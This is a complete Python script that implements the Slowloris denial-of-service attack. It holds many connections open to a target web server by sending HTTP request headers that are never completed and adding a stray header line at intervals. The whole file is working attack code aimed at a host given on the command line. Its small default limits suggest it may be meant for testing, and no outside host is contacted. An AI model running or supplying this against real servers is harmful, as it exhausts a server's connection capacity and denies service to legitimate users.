"""Slowloris as its first program did it: many connections, each sent a header line now and then that never ends it."""

from __future__ import annotations

import argparse
import random
import socket
import time


def main() -> None:
    """Hold connections open until the time is over."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("host")
    parser.add_argument("--port", type=int, default=80)
    parser.add_argument("--connections", type=int, default=30)
    parser.add_argument("--interval-s", type=float, default=4.0)
    parser.add_argument("--limit-s", type=float, default=15.0)
    parser.add_argument("--seed", type=int, default=1)
    given = parser.parse_args()
    chance = random.Random(given.seed)
    deadline_s = time.monotonic() + given.limit_s
    held: list[socket.socket] = []
    while time.monotonic() < deadline_s:
        held += [_open(given.host, given.port, chance) for _ in range(given.connections - len(held))]
        time.sleep(min(given.interval_s * chance.uniform(0.8, 1.2), max(0.0, deadline_s - time.monotonic())))
        held = [connection for connection in held if _goes_on(connection, chance)]
    for connection in held:
        connection.close()


def _open(host: str, port: int, chance: random.Random) -> socket.socket:
    connection = socket.create_connection((host, port), timeout=5)
    head = f"GET /?{chance.randint(0, 2000)} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 42\r\n"
    connection.sendall(head.encode() + b"User-Agent: Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1)\r\n")
    return connection


def _goes_on(connection: socket.socket, chance: random.Random) -> bool:
    try:
        connection.sendall(f"X-a: {chance.randint(1, 5000)}\r\n".encode())
    except OSError:
        connection.close()
        return False
    return True


if __name__ == "__main__":
    main()
